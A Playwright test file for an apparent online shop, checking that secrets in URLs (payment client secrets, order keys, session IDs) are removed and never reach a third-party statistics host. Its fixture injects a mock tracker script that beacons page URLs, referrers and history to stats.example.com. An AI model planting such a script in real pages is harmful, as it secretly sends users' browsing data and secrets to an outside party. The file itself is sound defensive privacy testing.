import { CONSENT_KEY } from '../../src/domain/analytics.ts';
import { extendedTest as base, expect } from '../support/test.ts';

const STATISTICS = 'https://stats.example.com';
const SECRET = 'cs_secret_17';

/** Reports every URL that a script in the page can see. */
const SPYING_SCRIPT = `navigator.sendBeacon('${STATISTICS}/beacon', JSON.stringify([
  location.href, document.referrer, JSON.stringify(history.state),
  ...navigation.entries().map(({ url }) => url),
  ...performance.getEntries().map(({ name }) => name),
]));`;

interface Fixtures {
  /** Everything that the statistics company receives: requested URLs, their referrers, and its script's reports. */
  heard: string[];
}

const test = base.extend<Fixtures>({
  heard: async ({ context }, use) => {
    await context.addInitScript((key) => localStorage.setItem(key, 'accepted'), CONSENT_KEY);
    const heard: string[] = [];
    await context.route(`${STATISTICS}/**`, async (route) => {
      const request = route.request();
      heard.push(request.url(), (await request.allHeaders()).referer ?? '', request.postData() ?? '');
      return request.resourceType() === 'script'
        ? route.fulfill({ contentType: 'text/javascript', body: SPYING_SCRIPT })
        : route.fulfill({ status: 204 });
    });
    await use(heard);
  },
});

// The company's own, which a page that is rendered ahead of a click sends past `heard`.
test.use({ expectedMessages: /status of (400|404)|another host: https:\/\/stats\.example\.com\/beacon/ });

/** Each page with a secret in its URL. */
const ADDRESSES = [
  `/order?key=${SECRET}`,
  `/nordmann-branches?payment=success&payment_intent=pi_1&payment_intent_client_secret=${SECRET}&redirect_status=failed`,
  `/nordmann-foliage-payment?payment=success&attempt=1&payment_intent=pi_1&payment_intent_client_secret=${SECRET}&redirect_status=failed`,
  `/nordmann-branches/thank-you?session_id=${SECRET}`,
  `/no-such-page?key=${SECRET}`,
];

test('secrets in a URL reach nobody else, on this page or the next', async ({ page, heard }) => {
  const referrers: string[] = [];
  page.on('request', (request) =>
    request.allHeaders().then(
      ({ referer = '' }) => referrers.push(referer),
      // A picture that is still on its way when the test is over.
      () => {},
    ),
  );
  for (const address of ADDRESSES) {
    heard.length = 0;
    await page.goto(address);
    await expect.poll(() => page.url()).not.toContain(SECRET);
    await page.waitForLoadState('networkidle');
    expect(heard, `${address}: nobody else is on the page`).toEqual([]);
    await page.locator('header .wordmark').click();
    await expect(page).toHaveURL('/');
    await expect.poll(() => heard.join(' ')).toContain('/beacon');
    expect(heard.join(' '), address).not.toContain(SECRET);
  }
  expect(referrers.join(' ')).not.toContain('?');
  expect(referrers.some((referrer) => referrer !== '')).toBe(true);
});
